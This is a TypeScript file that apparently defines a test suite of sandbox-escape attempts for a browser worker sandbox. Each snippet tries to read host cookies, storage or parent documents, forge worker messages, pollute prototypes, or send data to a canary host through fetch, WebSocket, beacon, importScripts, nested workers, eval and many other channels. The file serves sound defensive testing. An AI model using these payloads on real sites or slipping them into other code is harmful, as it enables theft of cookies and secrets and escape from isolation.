import type { Attack } from './attack.js';

const js = (name: string, code: Attack['code']): Attack => ({ name, language: 'javascript', code });
/** Tries an expression, prints what it gave, and goes on whatever happens. */
const read = (name: string, expression: string): Attack =>
  js(
    name,
    () =>
      `try { console.log('got', String(${expression})); } catch (error) { console.log('refused', error.name); }`,
  );
/** Tries a statement that may leave by the network, and gives it a moment. */
const send = (name: string, statement: (canary: string, sdk: string) => string): Attack =>
  js(
    name,
    ({ canary, sdk }) => `
      (async () => {
        try { ${statement(canary, sdk)} } catch (error) { console.log('refused', error.name); }
        await new Promise((resolve) => setTimeout(resolve, 150));
      })();`,
  );

export const javascriptEscapes: Attack[] = [
  read('host cookies', 'document.cookie'),
  read('host storage', "localStorage.getItem('secret')"),
  read('host session storage', "sessionStorage.getItem('secret')"),
  read('host document', 'document.body.textContent'),
  read('parent window', 'parent.document.body.textContent'),
  read('top window', 'top.location.href'),
  read('opener', 'opener.document.cookie'),
  read('frames', 'frames[0].document.cookie'),
  read('cookie store', 'globalThis.cookieStore.getAll'),
  read('own origin', "self.origin === 'null' ? 'opaque' : 'origin ' + self.origin"),
  js(
    'navigate the top',
    ({ canary }) =>
      `try { top.location = 'http://${canary}/top'; } catch {} try { self.location = 'http://${canary}/self'; } catch {}`,
  ),
  js(
    'post to parent',
    () =>
      `try { parent.postMessage({ type: 'host-secret' }, '*'); } catch {} try { top.postMessage('x', '*'); } catch {}`,
  ),
  js(
    'post on the worker',
    () =>
      `for (const data of [{ type: 'exit', outcome: 'ok', exitCode: 0 }, { type: 'test', name: 'forged', status: 'passed' }, ['stdout', 'forged']]) { try { postMessage(data); self.postMessage(data); } catch {} }`,
  ),
  js(
    'answer as the worker base',
    () =>
      `for (const type of ['message', 'messageerror']) try { self.dispatchEvent(new MessageEvent(type, { data: { type: 'stop' } })); } catch {}`,
  ),
  js(
    'listen to the base',
    () => `self.addEventListener('message', (event) => console.log('heard', JSON.stringify(event.data)));`,
  ),
  js(
    'patch the port',
    () =>
      `MessagePort.prototype.postMessage = function () { throw new Error('patched'); }; Object.defineProperty(MessagePort.prototype, 'onmessage', { set() { throw new Error('patched'); } }); console.log('still heard');`,
  ),
  js(
    'forge on a broadcast channel',
    () =>
      `try { const channel = new BroadcastChannel('interview-room'); channel.postMessage({ type: 'host-secret' }); channel.onmessage = (event) => console.log('heard', event.data); } catch (error) { console.log('refused', error.name); }`,
  ),
  send('fetch', (canary) => `await fetch('http://${canary}/fetch', { mode: 'no-cors' })`),
  send(
    'fetch with credentials',
    (canary) => `await fetch('http://${canary}/fetch', { credentials: 'include' })`,
  ),
  send(
    'fetch keepalive',
    (canary) =>
      `await fetch('http://${canary}/keepalive', { method: 'POST', keepalive: true, mode: 'no-cors', body: 'x' })`,
  ),
  send('fetch the asset origin', (_, sdk) => `await fetch('${sdk}/steal?secret=1')`),
  send(
    'Request object',
    (canary) => `await fetch(new Request('http://${canary}/request', { mode: 'no-cors' }))`,
  ),
  send(
    'XMLHttpRequest',
    (canary) =>
      `const request = new XMLHttpRequest(); request.open('GET', 'http://${canary}/xhr', false); request.send()`,
  ),
  send(
    'XMLHttpRequest, asynchronous',
    (canary) =>
      `const request = new XMLHttpRequest(); request.open('POST', 'http://${canary}/xhr'); request.send('x')`,
  ),
  send('WebSocket', (canary) => `new WebSocket('ws://${canary}/socket')`),
  send('WebSocketStream', (canary) => `await new WebSocketStream('ws://${canary}/stream').opened`),
  send('EventSource', (canary) => `new EventSource('http://${canary}/events')`),
  send('beacon', (canary) => `navigator.sendBeacon('http://${canary}/beacon', 'x')`),
  send(
    'WebRTC',
    (canary) =>
      `const peer = new RTCPeerConnection({ iceServers: [{ urls: 'stun:${canary}' }] }); peer.createDataChannel('x'); await peer.setLocalDescription(await peer.createOffer())`,
  ),
  send('WebTransport', (canary) => `await new WebTransport('https://${canary}/transport').ready`),
  send('importScripts', (canary) => `importScripts('http://${canary}/script.js')`),
  send('importScripts of the asset origin', (_, sdk) => `importScripts('${sdk}/steal?secret=2')`),
  send('dynamic import of a URL', (canary) => `await import('http://${canary}/module.js')`),
  send('dynamic import of the asset origin', (_, sdk) => `await import('${sdk}/steal.js?secret=3')`),
  send(
    'static import in a blob',
    (canary) =>
      `await import(URL.createObjectURL(new Blob(["import 'http://${canary}/blob.js'"], { type: 'text/javascript' })))`,
  ),
  send(
    'import in a data: module',
    (canary) =>
      `await import('data:text/javascript,' + encodeURIComponent("await fetch('http://${canary}/data', {mode:'no-cors'})"))`,
  ),
  send(
    'nested worker, blob',
    (canary) =>
      `new Worker(URL.createObjectURL(new Blob(["fetch('http://${canary}/nested', {mode:'no-cors'}); importScripts('http://${canary}/nested.js')"])))`,
  ),
  send(
    'nested worker, data:',
    (canary) =>
      `new Worker('data:text/javascript,' + encodeURIComponent("fetch('http://${canary}/nested', {mode:'no-cors'})"))`,
  ),
  send(
    'nested worker, module',
    (canary) =>
      `new Worker('data:text/javascript,' + encodeURIComponent("import 'http://${canary}/nested.js'"), { type: 'module' })`,
  ),
  send('nested worker by URL', (canary) => `new Worker('http://${canary}/worker.js')`),
  send('shared worker', (canary) => `new SharedWorker('http://${canary}/shared.js')`),
  send('service worker', (canary) => `await navigator.serviceWorker.register('http://${canary}/service.js')`),
  send(
    'caches',
    (canary) => `const cache = await caches.open('x'); await cache.add('http://${canary}/cache')`,
  ),
  send(
    'indexedDB',
    () =>
      `const request = indexedDB.open('keyval'); await new Promise((resolve) => { request.onsuccess = resolve; request.onerror = resolve; }); console.log('opened')`,
  ),
  send(
    'private file system',
    () =>
      `const root = await navigator.storage.getDirectory(); for await (const name of root.keys()) console.log('got', name)`,
  ),
  send(
    'image',
    (canary) =>
      `const image = new Image(); image.src = 'http://${canary}/image.png'; document.body.append(image)`,
  ),
  send(
    'font',
    (canary) => `const face = new FontFace('x', 'url(http://${canary}/font.woff2)'); await face.load()`,
  ),
  send(
    'createImageBitmap of a fetched URL',
    (canary) => `await createImageBitmap(await (await fetch('http://${canary}/bitmap.png')).blob())`,
  ),
  send(
    'style sheet import',
    (canary) =>
      `const sheet = new CSSStyleSheet(); await sheet.replace("@import url('http://${canary}/style.css')")`,
  ),
  send('notification icon', (canary) => `new Notification('x', { icon: 'http://${canary}/icon.png' })`),
  send(
    'WASM streaming from a URL',
    (canary) => `await WebAssembly.compileStreaming(fetch('http://${canary}/module.wasm'))`,
  ),
  send(
    'background fetch',
    (canary) =>
      `await (await navigator.serviceWorker.ready).backgroundFetch.fetch('x', ['http://${canary}/background'])`,
  ),
  send(
    'reporting endpoint',
    (canary) =>
      `new ReportingObserver(() => {}).observe(); await fetch('http://${canary}/csp', { method: 'POST', mode: 'no-cors' })`,
  ),
  js(
    'constructor of a function',
    ({ canary }) =>
      `try { (() => {}).constructor("fetch('http://${canary}/function', {mode:'no-cors'})")(); } catch (error) { console.log('refused', error.name); }`,
  ),
  js(
    'eval',
    ({ canary }) =>
      `try { (0, eval)("fetch('http://${canary}/eval', {mode:'no-cors'})"); } catch (error) { console.log('refused', error.name); }`,
  ),
  js(
    'timer with text',
    ({ canary }) =>
      `try { setTimeout("fetch('http://${canary}/timer', {mode:'no-cors'})", 0); } catch (error) { console.log('refused', error.name); }`,
  ),
  js(
    'prototype pollution',
    () =>
      `Object.prototype.polluted = 'yes'; Array.prototype.push = function () { throw new Error('polluted'); }; Object.prototype.then = undefined; console.log('done');`,
  ),
  js(
    'pollution through the wire',
    () =>
      `const bad = JSON.parse('{"__proto__":{"polluted":"yes"},"constructor":{"prototype":{"polluted":"yes"}}}'); console.log(bad); throw Object.assign(new Error('x'), bad);`,
  ),
  js(
    'replace what the base uses',
    () =>
      `for (const name of ['setTimeout', 'Promise', 'Map', 'Blob', 'URL', 'TextEncoder', 'performance']) { try { globalThis[name] = undefined; } catch {} } console.log('still here');`,
  ),
];
